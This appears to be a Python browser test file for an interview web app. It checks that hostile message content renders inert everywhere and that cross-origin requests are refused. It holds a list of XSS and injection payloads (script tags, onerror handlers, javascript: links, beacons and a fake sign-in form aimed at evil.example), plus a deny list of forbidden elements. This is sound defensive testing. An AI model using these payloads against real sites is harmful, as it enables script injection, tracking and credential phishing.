"""Messages that try to be more than text, in every place that shows them: nothing runs, loads, covers or submits.

A request off this machine and an error in the console fail every test of this folder (see `page` in conftest.py); a
blocked request would be such an error, so the markup must not even get as far as the Content-Security-Policy.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from interviewer.program import Program
from interviewer.web.guard import POLICY
from tests.browser.conftest import start, stop
from tests.web.interviews import log_of, put

EVIL = "https://evil.example"
PAYLOADS = (
    "<script>window.pwned = 1</script>",
    f'<script src="{EVIL}/a.js"></script>',
    '<img src=x onerror="window.pwned = 1">',
    f'<img src="{EVIL}/beacon.png">',
    '<svg onload="window.pwned = 1"><animate onbegin="window.pwned = 1" attributeName="x"/></svg>',
    f'<iframe src="{EVIL}" srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    f'<form action="{EVIL}"><input name="key"><button>Sign in again</button></form>',
    f'<div style="position:fixed;inset:0;background:url({EVIL}/b.png);z-index:99999">Your session is over</div>',
    f'<style>body {{ display: none; background: url("{EVIL}/c.png") }} @import "{EVIL}/d.css";</style>',
    f'<video src="{EVIL}/v.mp4" autoplay></video><audio src="{EVIL}/a.mp3" autoplay></audio>',
    f'<link rel="stylesheet" href="{EVIL}/e.css"><base href="{EVIL}"><meta http-equiv="refresh" content="0;{EVIL}">',
    f'<object data="{EVIL}/o"></object><embed src="{EVIL}/p">',
    f"![picture]({EVIL}/md.png) and ![ref][r]\n\n[r]: {EVIL}/ref.png",
    f"[a link]({EVIL}) [script](javascript:window.pwned=1) <{EVIL}/auto> {EVIL}/bare",
    '<a href="javascript:window.pwned=1" autofocus onfocus="window.pwned=1" tabindex="0">click</a>',
    '<details open ontoggle="window.pwned = 1"><summary>more</summary></details>',
    f"$\\href{{javascript:window.pwned=1}}{{x}}$ $\\includegraphics{{{EVIL}/k.png}}$",
    "$\\htmlStyle{position:fixed}{x}$ $\\htmlId{talk}{x}$ $\\url{javascript:window.pwned=1}$",
    "```html\n</code></pre><script>window.pwned = 1</script>\n```",
    "`</code><img src=x onerror=window.pwned=1>` and \\<b>bold\\</b> and &lt;script&gt;",
    "${window.pwned = 1} {{constructor.constructor('window.pwned=1')()}} {{{x}}} {% x %}",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
    "</div></li></ol></section></main><h1>Interviewer</h1><template><p>hidden</p></template>",
    "\u202e\u2066gnp.live\u2069 <IMG SRC=X ONERROR=window.pwned=1> <\u0131mg src=x>",
)
TEXTS = tuple(f"marker{number} is real: {text}" for number, text in enumerate(PAYLOADS))
FORBIDDEN = (
    "script, iframe, object, embed, form, input, button, textarea, img, video, audio, style, link, meta, base,"
    " template, a[href*='evil'], a[href^='javascript' i], [onerror], [onload], [onfocus], [ontoggle], [onbegin],"
    " animate, h1, [style*='fixed'], details:not(.card, .fold), b:not(.unseen), [src], [srcdoc], [background]"
)
CLOSED, OPEN, SPOKEN = "a" * 32, "b" * 32, "c" * 32


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    home = tmp_path_factory.mktemp("hostile-home")
    program = Program(home)
    put(program.repository, CLOSED, log_of(said=TEXTS, cited=range(1, 300)))
    put(program.repository, OPEN, log_of(said=TEXTS, closed=False))
    put(program.repository, SPOKEN, log_of(said=["Yes."], spoken="\n\n".join(TEXTS), closed=False))
    program.store.dispose()
    process, where = start(home)
    yield where
    stop(process)


def assert_inert(page: Page, place: Locator, *, markers: int = len(TEXTS)) -> None:
    expect(place).to_contain_text(f"marker{markers - 1} is real")
    shown = place.inner_text()
    assert [n for n in range(markers) if f"marker{n} is real" not in shown] == []
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    found = place.evaluate(f'(e) => [...e.querySelectorAll("{FORBIDDEN}")].map((x) => x.outerHTML.slice(0, 200))')
    assert found == []
    covering = place.evaluate(
        "(e) => [...e.querySelectorAll('*')].filter((x) => getComputedStyle(x).position === 'fixed').length"
    )
    assert covering == 0
    assert page.url.startswith("http://127.0.0.1")
    assert len(page.context.pages) == 1


def test_in_a_transcript(page: Page) -> None:
    page.goto(f"/transcripts?interview={CLOSED}")
    assert_inert(page, page.locator(".conversation"))


def test_in_a_debrief(page: Page) -> None:
    page.goto(f"/transcripts?interview={CLOSED}")
    debrief = page.locator(".debrief")
    expect(debrief).to_be_visible()
    debrief.evaluate("(e) => e.querySelectorAll('details').forEach((d) => (d.open = true))")
    # The debrief has its own heading; everything else that is forbidden must not be there.
    debrief.evaluate("(e) => e.querySelector(':scope > h1').remove()")
    expect(debrief.locator("blockquote").first).to_contain_text("marker0")
    assert_inert(page, debrief)


def test_in_the_tracker(page: Page) -> None:
    page.goto("/progress")
    quote = page.locator("blockquote").first
    expect(quote).to_contain_text("marker0")
    assert_inert(page, quote, markers=1)


def test_in_the_words_of_a_model(page: Page) -> None:
    page.goto(f"/transcripts?interview={SPOKEN}")
    assert_inert(page, page.locator("#turn-1"))


def test_in_the_room(page: Page) -> None:
    page.goto(f"/?interview={OPEN}")
    talk = page.locator("#talk")
    assert_inert(page, talk)
    message = "\n\n".join(f"fresh {text}" for text in TEXTS)
    page.get_by_label("Your answer").fill(message)
    page.get_by_role("button", name="Send", exact=True).click()
    expect(talk).to_contain_text("fresh marker0")
    assert_inert(page, talk)
    # A page that is left in the middle of an answer logs that it was; that is not what is tested here.
    expect(talk.locator(".typing")).to_have_count(0)
    expect(page.get_by_role("button", name="Send", exact=True)).to_be_enabled()
    page.wait_for_timeout(1000)
    page.reload()
    expect(talk).to_contain_text("fresh marker0")
    assert_inert(page, talk)


@pytest.mark.parametrize("path", ["/", "/transcripts", "/progress", "/settings", "/config", "/nowhere", "/theme.css"])
def test_every_answer_is_guarded(address: str, path: str) -> None:
    with httpx.Client(base_url=address, trust_env=False) as client:
        answer = client.get(path)
        assert answer.status_code == (404 if path == "/nowhere" else 200)
        assert answer.headers["content-security-policy"] == POLICY
        assert answer.headers["cache-control"] == "no-store"
        assert not [name for name in answer.headers if name.startswith("access-control-")]
        for headers in (
            {"host": "evil.example"},
            {"origin": EVIL},
            {"origin": "null"},
            {"sec-fetch-site": "cross-site"},
        ):
            assert client.get(path, headers=headers).status_code == 403
            assert client.post("/gradio_api/queue/join", json={}, headers=headers).status_code == 403
        assert client.post("/gradio_api/queue/join", content=b"x" * 1_000_001).status_code == 413
        assert client.post("/gradio_api/call/on_delete", json={"data": []}).status_code == 404


class _Elsewhere(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = f'<!doctype html><title>elsewhere</title><a href="{self.path[1:]}">open</a>'.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


TRIES = """async (address) => {
    const tried = [];
    const post = {method: "POST", body: '{"data":[],"fn_index":0,"session_hash":"x"}'};
    for (const init of [{}, {mode: "no-cors"}, {credentials: "include"}]) {
        for (const [path, more] of [["/config", {}], ["/gradio_api/queue/join", post]]) {
            try { tried.push((await fetch(address + path, {...init, ...more})).status); }
            catch { tried.push("blocked"); }
        }
    }
    return tried;
}"""


def test_another_page_on_this_machine_gets_nothing(chromium: Browser, address: str) -> None:
    elsewhere = ThreadingHTTPServer(("127.0.0.1", 0), _Elsewhere)
    threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
    context = chromium.new_context()
    try:
        page = context.new_page()
        page.goto(f"http://localhost:{elsewhere.server_port}/{address}/transcripts")
        assert page.evaluate(TRIES, address) == ["blocked"] * 6
        page.get_by_role("link", name="open").click()
        expect(page.get_by_text("Another page asked for this, so it was refused")).to_be_visible()
        page.goto(f"{address}/transcripts")
        expect(page.get_by_role("heading", name="Transcripts")).to_be_visible()
    finally:
        context.close()
        elsewhere.shutdown()
        elsewhere.server_close()
